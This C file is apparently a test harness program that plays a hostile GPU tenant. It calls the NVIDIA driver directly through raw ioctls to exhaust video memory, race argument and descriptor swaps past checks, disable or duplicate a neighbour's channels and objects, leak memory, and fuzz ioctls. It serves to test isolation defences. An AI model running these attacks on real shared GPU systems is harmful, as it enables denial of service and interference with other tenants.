/*
 * A hostile tenant: speaks to the driver with no libcuda, names what is not its own, rewrites arguments while they are
 * judged. Each attack prints one JSON object; whether it gained anything, the test sees with NVML and a neighbour.
 *
 * attack MODE [ARGUMENT ...]; built static by tests/gpu/conftest.py.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "rm_abi.h"

#define MIB (1ull << 20)
#define NV_ESC_ATTACH_GPUS_TO_FD 212

struct driver {
    int control, gpu;
    uint32_t root, device, subdevice;
};

static volatile int stop;

static uint32_t random_state = 1;
static uint32_t next_random(void)
{
    random_state ^= random_state << 13;
    random_state ^= random_state >> 17;
    return random_state ^= random_state << 5;
}

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + 1e-9 * (double)t.tv_nsec;
}

static uint32_t rm_alloc(int fd, uint32_t root, uint32_t parent, uint32_t *object, uint32_t class, void *params)
{
    struct nvos64 call = {
        .root = root, .parent = parent, .object = *object, .class = class, .params = (uintptr_t)params};

    if (ioctl(fd, NV_REQUEST(NV_ESC_RM_ALLOC, struct nvos64), &call) < 0)
        return 0x10000u + (uint32_t)errno;
    *object = call.object;
    return call.status;
}

static uint32_t rm_control(int fd, uint32_t client, uint32_t object, uint32_t command, void *params, uint32_t size)
{
    struct nvos54 call = {
        .client = client, .object = object, .command = command, .params = (uintptr_t)params, .params_size = size};

    if (ioctl(fd, NV_REQUEST(NV_ESC_RM_CONTROL, struct nvos54), &call) < 0)
        return 0x10000u + (uint32_t)errno;
    return call.status;
}

static void need(uint32_t status, const char *what)
{
    if (status != NV_OK) {
        printf("{\"failed\": \"%s\", \"status\": %u}\n", what, status);
        exit(1);
    }
}

static struct driver open_driver(void)
{
    struct nv_card_info cards[NV_MAX_CARDS] = {{0}};
    struct nv0000_gpu_id_info info = {0};
    struct nv0080_alloc_params device = {0};
    struct nv2080_alloc_params subdevice = {0};
    struct driver driver = {.control = open("/dev/nvidiactl", O_RDWR | O_CLOEXEC), .device = 0x100, .subdevice = 0x101};
    char path[64];
    int card = 0;

    ioctl(driver.control, _IOC(_IOC_READ | _IOC_WRITE, NV_IOCTL_MAGIC, NV_ESC_CARD_INFO, sizeof cards), cards);
    while (card < NV_MAX_CARDS - 1 && !cards[card].valid)
        card++;
    snprintf(path, sizeof path, "/dev/nvidia%u", cards[card].minor);
    driver.gpu = open(path, O_RDWR | O_CLOEXEC);
    need(rm_alloc(driver.control, 0, 0, &driver.root, NV01_ROOT_CLIENT, NULL), "root");
    info.gpu_id = cards[card].gpu_id;
    need(rm_control(driver.control, driver.root, driver.root, NV0000_CTRL_CMD_GPU_GET_ID_INFO_V2, &info, sizeof info),
         "id info");
    device.device_id = info.device_instance;
    need(rm_alloc(driver.control, driver.root, driver.root, &driver.device, NV01_DEVICE_0, &device), "device");
    subdevice.subdevice_id = info.subdevice_instance;
    need(rm_alloc(driver.control, driver.root, driver.device, &driver.subdevice, NV20_SUBDEVICE_0, &subdevice),
         "subdevice");
    return driver;
}

static struct nv_memory_allocation_params memory_of(uint64_t bytes)
{
    return (struct nv_memory_allocation_params){.owner = 1, .size = bytes, .flags = 0x4000};
}

static uint32_t take(struct driver *driver, uint32_t handle, uint32_t class, uint64_t bytes)
{
    struct nv_memory_allocation_params memory = memory_of(bytes);
    return rm_alloc(driver->control, driver->root, driver->device, &handle, class, &memory);
}

static uint32_t take_heap(struct driver *driver, uint32_t handle, uint32_t function, uint32_t size_offset,
                          uint64_t bytes)
{
    struct nvos32 heap = {.root = driver->root,
                          .parent = driver->device,
                          .function = function,
                          .owner = 1,
                          .memory = handle,
                          .flags = NVOS32_ALLOC_FLAGS_MEMORY_HANDLE_PROVIDED};

    memcpy((unsigned char *)&heap + size_offset, &bytes, sizeof bytes);
    if (ioctl(driver->control, NV_REQUEST(NV_ESC_RM_VID_HEAP_CONTROL, struct nvos32), &heap) < 0)
        return 0x10000u + (uint32_t)errno;
    return heap.status;
}

/* Until refused; waits for a line on stdin at the end, so that somebody can look. */
static void hold(uint64_t bytes, uint32_t status)
{
    printf("{\"bytes\": %llu, \"status\": %u}\n", (unsigned long long)bytes, status);
    fflush(stdout);
    if (getchar() < 0)
        exit(0);
}

static void fill(const char *how)
{
    struct driver driver = open_driver();
    uint32_t status = NV_OK, handle = 0x1000;
    uint64_t bytes = 0, piece = 32 * MIB;

    while (status == NV_OK) {
        if (strcmp(how, "heap") == 0)
            status = take_heap(&driver, handle++, NVOS32_FUNCTION_ALLOC_SIZE, NVOS32_ALLOC_SIZE_SIZE_OFFSET, piece);
        else if (strcmp(how, "heap-range") == 0)
            status = take_heap(&driver, handle++, NVOS32_FUNCTION_ALLOC_SIZE_RANGE, NVOS32_ALLOC_SIZE_RANGE_SIZE_OFFSET,
                               piece);
        else if (strcmp(how, "sysmem") == 0) /* the class of host memory, with video memory's location */
            status = take(&driver, handle++, 0x3E, piece);
        else
            status = take(&driver, handle++, NV01_MEMORY_LOCAL_USER, piece);
        bytes += status == NV_OK ? piece : 0;
        if (bytes > 200ull << 30)
            break;
    }
    hold(bytes, status);
}

/* So many of that size; what the driver says it made of each. */
static void take_pieces(uint64_t bytes, uint32_t count)
{
    struct driver driver = open_driver();
    struct nv_memory_allocation_params memory = {0};
    uint32_t status = NV_OK, made = 0;

    while (made < count && status == NV_OK) {
        uint32_t handle = 0x1000 + made;
        memory = memory_of(bytes);
        status = rm_alloc(driver.control, driver.root, driver.device, &handle, NV01_MEMORY_LOCAL_USER, &memory);
        made += status == NV_OK;
    }
    hold(made * memory.size, status);
}

/* NV_ESC_RM_ALLOC_MEMORY: classes that sound like video memory. */
static void older_door(void)
{
    struct driver driver = open_driver();
    static const uint32_t classes[] = {0x40, 0x3F, 0xC2, 0x81, 0x82, 0x83, 0x76};
    uint32_t worst = 0, made = 0;

    for (size_t i = 0; i < sizeof classes / sizeof *classes; i++)
        for (int file = 0; file < 2; file++) {
            uint32_t args[14] = {driver.root, driver.device, 0x2000 + (uint32_t)i * 2 + (uint32_t)file, classes[i]};
            uint64_t limit = (1ull << 30) - 1;
            memcpy(&args[8], &limit, sizeof limit);
            int fd = file ? driver.control : driver.gpu;
            int rc = ioctl(fd, _IOC(_IOC_READ | _IOC_WRITE, NV_IOCTL_MAGIC, NV_ESC_RM_ALLOC_MEMORY, sizeof args), args);
            if (rc == 0 && args[10] == NV_OK)
                made++;
            worst = args[10];
        }
    hold(made, worst);
}

/* --- a thread that rewrites arguments --- */

struct flip {
    uint32_t *word;
    uint32_t a, b;
    uint64_t *large;
    uint64_t small_value, large_value;
};

static void *flip(void *argument)
{
    const struct flip *flip = argument;

    while (!stop) {
        __atomic_store_n(flip->word, flip->a, __ATOMIC_SEQ_CST);
        if (flip->large)
            __atomic_store_n(flip->large, flip->small_value, __ATOMIC_SEQ_CST);
        for (volatile int i = 0; i < 50; i++)
            ;
        __atomic_store_n(flip->word, flip->b, __ATOMIC_SEQ_CST);
        if (flip->large)
            __atomic_store_n(flip->large, flip->large_value, __ATOMIC_SEQ_CST);
        for (volatile int i = 0; i < 50; i++)
            ;
    }
    return NULL;
}

/* Waits for somebody to have looked. */
static void end_race(pthread_t thread, long calls, long made)
{
    stop = 1;
    pthread_join(thread, NULL);
    printf("{\"calls\": %ld, \"made\": %ld}\n", calls, made);
    fflush(stdout);
    getchar();
}

/* Memory that is shown as something else, or as less, than what the kernel would read. */
static void race_memory(double seconds, uint32_t class)
{
    struct driver driver = open_driver();
    static struct nvos64 call;
    static struct nv_memory_allocation_params memory;
    uint32_t handle = 0x3000;
    long calls = 0, made = 0;
    pthread_t thread;

    memory = memory_of(4096);
    call = (struct nvos64){.root = driver.root, .parent = driver.device, .params = (uintptr_t)&memory};
    struct flip flips = {&call.class, NV01_MEMORY_LOCAL_USER, class, &memory.size, 4096, 256 * MIB};
    pthread_create(&thread, NULL, flip, &flips);
    for (double end = now() + seconds; now() < end; calls++) {
        call.object = handle++;
        call.status = 0xFFFF;
        if (ioctl(driver.control, NV_REQUEST(NV_ESC_RM_ALLOC, struct nvos64), &call) == 0 && call.status == NV_OK)
            made++;
        if (made % 64 == 63) /* leave room, so that the race goes on */
            for (uint32_t old = handle - 64; old < handle; old++) {
                struct nvos00 gone = {.root = driver.root, .object = old};
                ioctl(driver.control, NV_REQUEST(NV_ESC_RM_FREE, struct nvos00), &gone);
            }
    }
    end_race(thread, calls, made);
}

/* A client that turns into memory while the kernel reads it. */
static void race_client(double seconds)
{
    struct driver driver = open_driver();
    static struct nvos64 call;
    static struct nv_memory_allocation_params memory;
    long calls = 0, same = 0;
    pthread_t thread;

    memory = memory_of(64 * MIB);
    struct flip flips = {&call.class, NV01_ROOT_CLIENT, NV01_MEMORY_LOCAL_USER, NULL, 0, 0};
    pthread_create(&thread, NULL, flip, &flips);
    for (double end = now() + seconds; now() < end; calls++) {
        int fresh = open("/dev/nvidiactl", O_RDWR | O_CLOEXEC);
        int fd = calls & 1 ? fresh : driver.control;
        call = (struct nvos64){.root = driver.root,
                               .parent = driver.device,
                               .object = 0x4000 + (uint32_t)calls,
                               .class = NV01_ROOT_CLIENT,
                               .params = (uintptr_t)&memory,
                               .status = 0xFFFF};
        int rc = ioctl(fd, NV_REQUEST(NV_ESC_RM_ALLOC, struct nvos64), &call);
        same += rc == 0 && call.status == NV_OK && fd == driver.control;
        if (fd == driver.control && rc == 0 && call.status == NV_OK) {
            struct nvos00 gone = {.root = driver.root, .object = 0x4000 + (uint32_t)calls};
            ioctl(driver.control, NV_REQUEST(NV_ESC_RM_FREE, struct nvos00), &gone);
        }
        close(fresh);
    }
    end_race(thread, calls, same);
}

/* A descriptor that is another device's when it is looked at, and the driver's when the kernel goes on. */
static struct {
    int number, driver, other;
} swapped;

/* A file without a client again. */
static void renew_other(void)
{
    int fresh = open("/dev/nvidiactl", O_RDWR | O_CLOEXEC);

    dup2(fresh, swapped.other);
    close(fresh);
}

static void *swap(void *argument)
{
    (void)argument;
    while (!stop) {
        dup2(swapped.other, swapped.number);
        dup2(swapped.driver, swapped.number);
    }
    return NULL;
}

static void race_descriptor(double seconds)
{
    struct driver driver = open_driver();
    uint32_t handle = 0x3000;
    long calls = 0, made = 0;
    pthread_t thread;

    swapped.driver = driver.control;
    swapped.other = open("/dev/null", O_RDWR);
    swapped.number = dup(swapped.other);
    pthread_create(&thread, NULL, swap, NULL);
    for (double end = now() + seconds; now() < end; calls++) {
        struct nv_memory_allocation_params memory = memory_of(64 * MIB);
        uint32_t object = handle++;
        made += rm_alloc(swapped.number, driver.root, driver.device, &object, NV01_MEMORY_LOCAL_USER, &memory) == NV_OK;
    }
    end_race(thread, calls, made);
}

/*
 * The one call that the kernel makes itself, a client without parameters: its class turns into memory's and its
 * descriptor into that of a file with a client while it goes on. What is made is used, if it can be.
 */
static struct nvos05 object_call;

static void *swap_and_flip(void *argument)
{
    const struct driver *raced = argument;

    while (!stop) {
        dup2(swapped.other, swapped.number);
        object_call.root = object_call.parent = 0;
        __atomic_store_n(&object_call.class, NV01_ROOT_CLIENT, __ATOMIC_SEQ_CST);
        for (volatile int i = 0; i < 200; i++)
            ;
        object_call.root = raced->root;
        object_call.parent = raced->device;
        __atomic_store_n(&object_call.class, NV01_MEMORY_LOCAL_USER, __ATOMIC_SEQ_CST);
        dup2(swapped.driver, swapped.number);
    }
    return NULL;
}

static long use_client(const struct driver *driver, uint32_t root)
{
    struct nv0080_alloc_params params = {0};
    struct nv_memory_allocation_params memory = memory_of(256 * MIB);
    uint32_t device = 0x5000, object = 0x5001;

    rm_alloc(driver->control, root, root, &device, NV01_DEVICE_0, &params);
    return rm_alloc(driver->control, root, device, &object, NV01_MEMORY_LOCAL_USER, &memory) == NV_OK;
}

static void race_object(double seconds)
{
    struct driver driver = open_driver();
    uint32_t handle = 0x3000;
    long calls = 0, made = 0, used = 0;
    pthread_t thread;

    swapped.driver = driver.control;
    swapped.other = open("/dev/nvidiactl", O_RDWR | O_CLOEXEC);
    swapped.number = dup(swapped.other);
    pthread_create(&thread, NULL, swap_and_flip, &driver);
    for (double end = now() + seconds; now() < end; calls++) {
        object_call.object = calls & 1 ? handle++ : 0;
        object_call.status = 0xFFFF;
        int rc = ioctl(swapped.number, NV_REQUEST(NV_ESC_RM_ALLOC_OBJECT, struct nvos05), &object_call);
        if (rc == 0 && object_call.status == NV_OK) {
            made++;
            used += use_client(&driver, object_call.object);
        }
        renew_other();
    }
    stop = 1;
    pthread_join(thread, NULL);
    printf("{\"calls\": %ld, \"made\": %ld, \"used\": %ld}\n", calls, made, used);
    fflush(stdout);
    getchar();
}

/*
 * A client by the common door, on a file that has none: becomes memory, on a file with a client and a device, between
 * the guard's look and the kernel's. Each turn is long enough for one look and ends at any moment of the next.
 */
static struct nvos64 alloc_call;
static struct nv_memory_allocation_params alloc_memory;

static void *swap_and_turn(void *argument)
{
    const struct driver *raced = argument;

    while (!stop) {
        dup2(swapped.other, swapped.number);
        alloc_call.root = alloc_call.parent = 0;
        alloc_call.params = 0;
        __atomic_store_n(&alloc_call.class, NV01_ROOT_CLIENT, __ATOMIC_SEQ_CST);
        for (volatile uint32_t i = next_random() % 20000; i; i--)
            ;
        alloc_call.root = raced->root;
        alloc_call.parent = raced->device;
        alloc_call.params = (uintptr_t)&alloc_memory;
        __atomic_store_n(&alloc_call.class, NV01_MEMORY_LOCAL_USER, __ATOMIC_SEQ_CST);
        dup2(swapped.driver, swapped.number);
        for (volatile uint32_t i = next_random() % 20000; i; i--)
            ;
    }
    return NULL;
}

static void race_swap(double seconds)
{
    struct driver driver = open_driver();
    uint32_t handle = 0x3000;
    long calls = 0, made = 0;
    pthread_t thread;

    alloc_memory = memory_of(256 * MIB);
    swapped.driver = driver.control;
    swapped.other = open("/dev/nvidiactl", O_RDWR | O_CLOEXEC);
    swapped.number = dup(swapped.other);
    pthread_create(&thread, NULL, swap_and_turn, &driver);
    for (double end = now() + seconds; now() < end; calls++) {
        alloc_call.object = handle++;
        alloc_call.status = 0xFFFF;
        int rc = ioctl(swapped.number, NV_REQUEST(NV_ESC_RM_ALLOC, struct nvos64), &alloc_call);
        made += rc == 0 && alloc_call.status == NV_OK;
        renew_other();
    }
    end_race(thread, calls, made);
}

/* --- other tenants' things --- */

/* argv: seconds, then the neighbour's client and first channel: takes it off the GPU, if it may. */
static void switch_neighbour(double seconds, uint32_t client, uint32_t first)
{
    struct driver driver = open_driver();
    static struct nvos54 call;
    struct nv2080_fifo_disable_channels off = {.disable = 1, .count = 64};
    long calls = 0, done = 0;
    pthread_t thread;

    for (uint32_t i = 0; i < 64; i++) {
        off.clients[i] = client;
        off.channels[i] = first + i;
    }
    /* plainly, and with a command that flips between it and a harmless one */
    struct flip flips = {&call.command, 0x20800102, NV2080_CTRL_CMD_FIFO_DISABLE_CHANNELS, NULL, 0, 0};
    uint32_t plain = rm_control(driver.control, driver.root, driver.subdevice, NV2080_CTRL_CMD_FIFO_DISABLE_CHANNELS,
                                &off, sizeof off);
    call = (struct nvos54){
        .client = driver.root, .object = driver.subdevice, .params = (uintptr_t)&off, .params_size = sizeof off};
    pthread_create(&thread, NULL, flip, &flips);
    for (double end = now() + seconds; now() < end; calls++) {
        call.status = 0xFFFF;
        if (ioctl(driver.control, NV_REQUEST(NV_ESC_RM_CONTROL, struct nvos54), &call) == 0 && call.status == NV_OK)
            done++;
    }
    stop = 1;
    pthread_join(thread, NULL);
    printf("{\"plain\": %u, \"calls\": %ld, \"done\": %ld}\n", plain, calls, done);
}

static void dup_neighbour(uint32_t client, uint32_t first)
{
    struct driver driver = open_driver();
    uint32_t made = 0, worst = 0;

    for (uint32_t i = 0; i < 256; i++) {
        struct nvos55 dup = {.client = driver.root,
                             .parent = driver.device,
                             .object = 0x5000 + i,
                             .client_source = client,
                             .object_source = first + i};
        ioctl(driver.control, NV_REQUEST(NV_ESC_RM_DUP_OBJECT, struct nvos55), &dup);
        made += dup.status == NV_OK;
        worst = dup.status;
    }
    printf("{\"made\": %u, \"status\": %u}\n", made, worst);
}

/* --- lifetimes --- */

/* The maker ends; a forked child keeps the file, and with it the memory. */
static void leave_to_child(uint64_t bytes)
{
    struct driver driver = open_driver();

    need(take(&driver, 0x6000, NV01_MEMORY_LOCAL_USER, bytes), "memory");
    if (fork() > 0)
        _exit(0);
    printf("{\"child\": %d}\n", getpid());
    fflush(stdout);
    getchar();
}

/* Files closed without a word of freeing, again and again. */
static void close_files(uint64_t bytes, int rounds)
{
    int refused = 0;

    for (int i = 0; i < rounds; i++) {
        struct driver driver = open_driver();
        refused += take(&driver, 0x7000, NV01_MEMORY_LOCAL_USER, bytes) != NV_OK;
        close(driver.gpu);
        close(driver.control);
    }
    printf("{\"refused\": %d}\n", refused);
}

/* A second name keeps memory when the first is freed. */
static void keep_by_dup(uint64_t bytes)
{
    struct driver driver = open_driver(), other = open_driver();
    uint32_t status = NV_OK;
    uint64_t kept = 0;

    for (uint32_t i = 0; status == NV_OK && i < 4096; i++) {
        status = take(&driver, 0x8000 + i, NV01_MEMORY_LOCAL_USER, bytes);
        if (status != NV_OK)
            break;
        struct nvos55 dup = {.client = other.root,
                             .parent = other.device,
                             .object = 0x8000 + i,
                             .client_source = driver.root,
                             .object_source = 0x8000 + i};
        ioctl(other.control, NV_REQUEST(NV_ESC_RM_DUP_OBJECT, struct nvos55), &dup);
        struct nvos00 gone = {.root = driver.root, .object = 0x8000 + i};
        ioctl(driver.control, NV_REQUEST(NV_ESC_RM_FREE, struct nvos00), &gone);
        kept += dup.status == NV_OK ? bytes : 0;
    }
    hold(kept, status);
}

/* --- nonsense --- */

static void nonsense(double seconds)
{
    static const uint32_t doors[] = {NV_ESC_RM_FREE,          NV_ESC_RM_CONTROL,          NV_ESC_RM_ALLOC,
                                     NV_ESC_RM_DUP_OBJECT,    NV_ESC_RM_VID_HEAP_CONTROL, NV_ESC_IOCTL_XFER_CMD,
                                     NV_ESC_RM_IDLE_CHANNELS, NV_ESC_EXPORT_TO_DMABUF_FD};
    struct driver driver = open_driver();
    uint32_t words[64];
    long calls = 0;

    for (double end = now() + seconds; now() < end; calls++) {
        for (int i = 0; i < 64; i++)
            words[i] = next_random() & 1 ? next_random() : next_random() % 3 ? 0 : driver.root;
        uint32_t nr = doors[next_random() % (sizeof doors / sizeof *doors)], size = next_random() % 3 ? 16384 : 0;
        static const uint32_t sizes[] = {16, 28, 32, 48, 184, 16};
        size = size ? sizes[next_random() % 6] : next_random() % 4096;
        void *at = next_random() % 8 ? (void *)words : (void *)(uintptr_t)(next_random() % 2 ? 4096 : 0);
        ioctl(next_random() & 1 ? driver.control : driver.gpu, _IOC(_IOC_READ | _IOC_WRITE, NV_IOCTL_MAGIC, nr, size),
              at);
    }
    close(driver.control);
    close(driver.gpu);
    struct driver again = open_driver();
    uint32_t status = take(&again, 0x9000, NV01_MEMORY_LOCAL_USER, 2 * MIB);
    printf("{\"calls\": %ld, \"after\": %u}\n", calls, status);
}

/* Exits in the middle of its calls, from many threads. */
static void *hammer(void *argument)
{
    struct driver *driver = argument;

    for (uint32_t i = 0;; i++)
        take(driver, 0xA000 + (i & 0xFFF) + ((uint32_t)gettid() << 12), NV01_MEMORY_LOCAL_USER, 2 * MIB);
    return NULL;
}

static void exit_in_calls(void)
{
    struct driver driver = open_driver();
    pthread_t thread;

    for (int i = 0; i < 8; i++)
        pthread_create(&thread, NULL, hammer, &driver);
    usleep(20000);
    _exit(0);
}

int main(int argc, char **argv)
{
    const char *mode = argc > 1 ? argv[1] : "";
    double first = argc > 2 ? atof(argv[2]) : 1;
    uint32_t client = argc > 3 ? (uint32_t)strtoul(argv[3], NULL, 16) : 0;
    uint32_t handle = argc > 4 ? (uint32_t)strtoul(argv[4], NULL, 16) : 0;

    if (strncmp(mode, "fill-", 5) == 0)
        fill(mode + 5);
    else if (strcmp(mode, "pieces") == 0)
        take_pieces(strtoull(argv[2], NULL, 0), (uint32_t)atoi(argv[3]));
    else if (strcmp(mode, "older-door") == 0)
        older_door();
    else if (strcmp(mode, "race-memory") == 0)
        race_memory(first, 0x3E);
    else if (strcmp(mode, "race-root") == 0)
        race_memory(first, NV01_ROOT);
    else if (strcmp(mode, "race-client") == 0)
        race_client(first);
    else if (strcmp(mode, "race-descriptor") == 0)
        race_descriptor(first);
    else if (strcmp(mode, "race-object") == 0)
        race_object(first);
    else if (strcmp(mode, "race-swap") == 0)
        race_swap(first);
    else if (strcmp(mode, "switch") == 0)
        switch_neighbour(first, client, handle);
    else if (strcmp(mode, "dup") == 0)
        dup_neighbour(client, handle);
    else if (strcmp(mode, "leave-to-child") == 0)
        leave_to_child((uint64_t)first * MIB);
    else if (strcmp(mode, "close-files") == 0)
        close_files((uint64_t)first * MIB, 20);
    else if (strcmp(mode, "keep-by-dup") == 0)
        keep_by_dup((uint64_t)first * MIB);
    else if (strcmp(mode, "nonsense") == 0)
        nonsense(first);
    else if (strcmp(mode, "exit-in-calls") == 0)
        exit_in_calls();
    else
        return 2;
    return 0;
}
